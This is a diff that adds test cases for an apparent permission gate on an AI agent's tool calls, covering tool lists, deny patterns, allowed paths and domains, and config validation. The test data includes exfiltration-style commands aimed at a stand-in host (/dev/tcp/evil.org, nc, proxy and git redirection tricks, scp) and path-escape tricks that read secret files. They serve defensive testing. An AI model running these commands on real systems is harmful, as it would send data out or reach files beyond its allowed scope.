@@ -17,6 +17,7 @@ describe("lists", () => {
   test("switched off it says nothing", () => {
     expect(kind({ enabled: false, denied_tools: ["bash"] }, ran("ls"))).toBe("pass");
     expect(gateOf({ enabled: false }).state?.()).toBe("off");
+    expect(gateOf({ enabled: false, denied_tools: ["bash"] }).state?.()).toBe("off, 1 tool denied, 0 constraints written");
   });
   test("denied tools are not used, in any case of their name", () => {
     expect(said({ denied_tools: ["Bash"] }, ran("ls"))).toMatchObject({ kind: "deny", rule: "tools.scoped.denied_tools" });
@@ -26,6 +27,16 @@ describe("lists", () => {
     expect(said({ allowed_tools: ["read"] }, ran("ls"))).toMatchObject({ kind: "deny", rule: "tools.scoped.allowed_tools" });
     expect(kind({ allowed_tools: ["bash"], denied_tools: ["bash"] }, ran("ls"))).toBe("pass");
   });
+});
+
+test("names may be patterns, in lists and constraints", () => {
+  const read = callOf("read", { path: "a" });
+  expect(kind({ denied_tools: ["*"] }, read)).toBe("deny");
+  expect(kind({ denied_tools: ["re*"] }, read)).toBe("deny");
+  expect(kind({ denied_tools: ["wr*"] }, read)).toBe("pass");
+  expect(kind({ allowed_tools: ["*"] }, read)).toBe("pass");
+  expect(kind({ constraints: [{ tool: "*", deny_patterns: ["a"] }] }, read)).toBe("deny");
+  expect(kind({ constraints: [{ tool: "b*", deny_patterns: ["a"] }] }, read)).toBe("pass");
 });
 
 describe("deny_patterns", () => {
@@ -45,6 +56,9 @@ describe("deny_patterns", () => {
     ["git push", "git status", "pass"],
     ["[x", "echo '[x'", "deny"],
     ["*", "echo a", "pass"],
+    ["git  push now", "GIT push\n now", "deny"],
+    ["git push now", "git push", "pass"],
+    ["a  ", "echo a b", "deny"],
   ])("%s: %s → %s", (pattern, command, expected) => {
     expect(limited({ deny_patterns: [pattern] }, ran(command))).toBe(expected);
   });
@@ -74,6 +88,23 @@ describe("allowed_paths", () => {
     [["src"], ran("python3 /etc/x.py"), "deny"],
     [["src"], ran("cat $X"), "deny"],
     [["src"], ran("cat ~bob/x"), "deny"],
+    [["src"], ran("sort src/a.ts | head -n 3"), "pass"],
+    [["src"], ran("cd src; cat a.ts"), "pass"],
+    [["src"], ran("echo hi; pwd"), "pass"],
+    [["src"], ran("ls"), "deny"],
+    [["src"], ran("sort a.txt"), "deny"],
+    [["src"], ran("fold a.txt"), "deny"],
+    [["src"], ran("pr a.txt"), "deny"],
+    [["src"], ran("perl -pe1 a.txt"), "deny"],
+    [["src"], ran("python3 a.txt"), "deny"],
+    [["src"], ran("python3 src/a.ts"), "deny"],
+    [["src"], ran("ln secret/k src/h; cat src/h"), "deny"],
+    [["src"], ran("sort -o src/o secret/k"), "deny"],
+    [["src"], ran("env -C secret cat k"), "deny"],
+    [["src"], ran("make"), "deny"],
+    [["src"], ran("git log"), "deny"],
+    [["src"], callOf("grep", { pattern: "x", path: "src" }), "pass"],
+    [["src"], callOf("grep", { pattern: "x" }), "deny"],
   ])("%j: case %#", (allowed_paths, call, expected) => expect(limited({ allowed_paths }, call), JSON.stringify(call.input)).toBe(expected));
 });
 
@@ -92,9 +123,74 @@ describe("allowed_domains", () => {
     ["example.com", ran("curl https://example.com/a"), "pass"],
     ["example.com", ran("curl https://evil.org/a"), "deny"],
     ["example.com", ran("curl $X"), "deny"],
+    ["example.com", ran("curl -sm1 --retry 3 -H 'a: b' example.com/a"), "pass"],
+    ["example.com", ran("wget -q -O x example.com/a"), "pass"],
+    ["example.com", ran("git clone git@example.com:o/r"), "pass"],
+    ["example.com", ran("npm test && git status"), "pass"],
+    ["example.com", ran("curl evil.org/x"), "deny"],
+    ["example.com", ran("curl --url evil.org"), "deny"],
+    ["example.com", ran("curl -x evil.org:80 https://example.com"), "deny"],
+    ["example.com", ran("curl --resolve example.com:443:1.2.3.4 https://example.com"), "deny"],
+    ["example.com", ran("curl --proxy socks5://evil.org https://example.com"), "deny"],
+    ["example.com", ran("https_proxy=evil.org curl https://example.com"), "deny"],
+    ["example.com", ran("wget evil.org/x"), "deny"],
+    ["example.com", ran("wget -i list https://example.com"), "deny"],
+    ["example.com", ran("git clone git@evil.org:o/r"), "deny"],
+    ["example.com", ran("git push"), "deny"],
+    ["example.com", ran("git remote add x https://evil.org/o"), "deny"],
+    ["example.com", ran("git -c url.https://evil.org/.insteadOf=https://example.com/ clone https://example.com/x"), "deny"],
+    ["example.com", ran("ssh evil.org"), "deny"],
+    ["example.com", ran("ssh -J evil.org example.com"), "deny"],
+    ["example.com", ran("ssh me@example.com"), "pass"],
+    ["example.com", ran("scp a.txt evil.org:x"), "deny"],
+    ["example.com", ran("rsync -a src evil.org::m"), "deny"],
+    ["example.com", ran("nc evil.org 80"), "deny"],
+    ["example.com", ran("http POST evil.org/x"), "deny"],
+    ["example.com", ran("dig @evil.org example.com"), "deny"],
+    ["example.com", ran("ping -c 1 evil.org"), "deny"],
+    ["example.com", ran("echo x > /dev/tcp/evil.org/80"), "deny"],
   ])("%s: case %#", (domain, call, expected) =>
     expect(limited({ allowed_domains: [domain] }, call), JSON.stringify(call.input)).toBe(expected),
   );
+});
+
+describe("limits that nothing could keep to are no limits", () => {
+  const complaint = (limit: object) =>
+    scopedConfig.safeParse({ constraints: [{ tool: "x", ...limit }] }).error?.issues.map(({ path, message }) => [path.at(-2), message]) ??
+    null;
+  test.each([
+    ["src/**", '"src"'],
+    ["*.ts", '"."'],
+    ["/etc/*/x", '"/etc"'],
+    ["/*", '"/"'],
+    ["a/{b,c}", '"a"'],
+    ["~/x?", '"~"'],
+  ])("the folder %s", (path, instead) =>
+    expect(complaint({ allowed_paths: [path] })).toEqual([
+      ["allowed_paths", `allowed_paths are folders with all that lies in them, not patterns: write ${instead}.`],
+    ]),
+  );
+  test.each([
+    ["https://example.com", 'write "example.com"'],
+    ["http://me@example.com:80/x?y", 'write "example.com"'],
+    ["example.com/path", 'write "example.com"'],
+    ["example.com:8080", 'write "example.com"'],
+    ["*", 'write "example.com", or "*.example.com"'],
+    ["exa*mple.com", 'write "example.com", or "*.example.com"'],
+    ["a b", 'write "example.com", or "*.example.com"'],
+  ])("the host %s", (domain, advice) =>
+    expect(complaint({ allowed_domains: [domain] })).toEqual([
+      ["allowed_domains", `allowed_domains are hosts, without scheme, port or path: ${advice}.`],
+    ]),
+  );
+  test("names with brackets, addresses in numbers and other alphabets are fine", () => {
+    expect(complaint({ allowed_paths: ["app/[id]", "a{b}", "~", "."] })).toBeNull();
+    expect(
+      complaint({ allowed_domains: ["Example.com.", "*.example.com", "127.0.0.1", "[::1]", "localhost", "bücher.example"] }),
+    ).toBeNull();
+    expect(limited({ allowed_domains: ["bücher.example"] }, callOf("fetch", { url: "https://bücher.example/" }))).toBe("pass");
+    expect(limited({ allowed_domains: ["[::1]"] }, callOf("fetch", { url: "http://[::1]:80/" }))).toBe("pass");
+  });
 });
 
 describe("min_trust", () => {
